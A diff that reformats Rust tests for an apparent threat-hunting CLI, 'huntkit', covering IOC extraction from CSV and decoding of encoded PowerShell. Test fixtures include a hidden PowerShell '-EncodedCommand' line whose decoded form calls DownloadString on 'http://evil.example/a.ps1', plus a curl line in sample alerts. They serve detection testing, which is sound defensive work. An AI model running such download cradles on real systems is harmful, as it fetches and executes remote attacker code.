@@ -55,8 +55,21 @@ fn text_ndjson_has_the_documented_keys() {
 
 #[test]
 fn csv_table_with_columns() {
-    let f = temp("alerts.csv", b"host,cmd\nh1,ping 8.8.8.8\nh2,curl http://a.com/x\n");
-    let o = huntkit(&["ioc", f.to_str().unwrap(), "--columns", "cmd", "--format", "csv"], None);
+    let f = temp(
+        "alerts.csv",
+        b"host,cmd\nh1,ping 8.8.8.8\nh2,curl http://a.com/x\n",
+    );
+    let o = huntkit(
+        &[
+            "ioc",
+            f.to_str().unwrap(),
+            "--columns",
+            "cmd",
+            "--format",
+            "csv",
+        ],
+        None,
+    );
     assert!(o.status.success(), "{}", stderr(&o));
     assert_eq!(
         stdout(&o),
@@ -67,7 +80,10 @@ fn csv_table_with_columns() {
 #[test]
 fn missing_column_names_the_column() {
     let f = temp("missing.csv", b"host,cmd\nh1,x\n");
-    let o = huntkit(&["ioc", f.to_str().unwrap(), "--columns", "CommandLine"], None);
+    let o = huntkit(
+        &["ioc", f.to_str().unwrap(), "--columns", "CommandLine"],
+        None,
+    );
     assert_eq!(o.status.code(), Some(1));
     assert!(
         stderr(&o).contains("column \"CommandLine\" not in table (columns: host, cmd)"),
@@ -81,7 +97,10 @@ fn empty_and_non_utf8_inputs() {
     let o = huntkit(&["ioc", "-", "--format", "ndjson"], Some(b""));
     assert!(o.status.success());
     assert_eq!(stdout(&o), "");
-    let o = huntkit(&["ioc", "-", "--format", "ndjson"], Some(b"\xff\xfe 9.9.9.9 \x80"));
+    let o = huntkit(
+        &["ioc", "-", "--format", "ndjson"],
+        Some(b"\xff\xfe 9.9.9.9 \x80"),
+    );
     assert!(o.status.success());
     assert!(stdout(&o).contains("9.9.9.9"));
     let f = temp("empty.csv", b"");
@@ -96,7 +115,11 @@ fn truncated_arrow_is_a_clear_error() {
     let o = huntkit(&["ioc", f.to_str().unwrap()], None);
     assert_eq!(o.status.code(), Some(1));
     assert!(stderr(&o).starts_with("huntkit: "), "{}", stderr(&o));
-    assert!(stderr(&o).contains("cannot read arrow input"), "{}", stderr(&o));
+    assert!(
+        stderr(&o).contains("cannot read arrow input"),
+        "{}",
+        stderr(&o)
+    );
 }
 
 #[test]
@@ -132,9 +155,20 @@ fn decode_annotates_powershell() {
     let line = format!("powershell.exe -nop -w hidden -EncodedCommand {b64}\n");
     let o = huntkit(&["decode", "-", "--annotated"], Some(line.as_bytes()));
     assert!(o.status.success(), "{}", stderr(&o));
-    assert!(stdout(&o).contains("DownloadString('http://evil.example/a.ps1')"), "{}", stdout(&o));
-    let o = huntkit(&["decode", "-", "--format", "ndjson"], Some(line.as_bytes()));
-    assert!(stdout(&o).contains("\"encoding_type\":\"utf16le_base64\""), "{}", stdout(&o));
+    assert!(
+        stdout(&o).contains("DownloadString('http://evil.example/a.ps1')"),
+        "{}",
+        stdout(&o)
+    );
+    let o = huntkit(
+        &["decode", "-", "--format", "ndjson"],
+        Some(line.as_bytes()),
+    );
+    assert!(
+        stdout(&o).contains("\"encoding_type\":\"utf16le_base64\""),
+        "{}",
+        stdout(&o)
+    );
 }
 
 fn encode_b64(bytes: &[u8]) -> String {
@@ -145,7 +179,11 @@ fn encode_b64(bytes: &[u8]) -> String {
             | (*c.get(1).unwrap_or(&0) as u32) << 8
             | *c.get(2).unwrap_or(&0) as u32;
         for i in 0..4 {
-            out.push(if i <= c.len() { A[(n >> (18 - 6 * i) & 63) as usize] as char } else { '=' });
+            out.push(if i <= c.len() {
+                A[(n >> (18 - 6 * i) & 63) as usize] as char
+            } else {
+                '='
+            });
         }
     }
     out
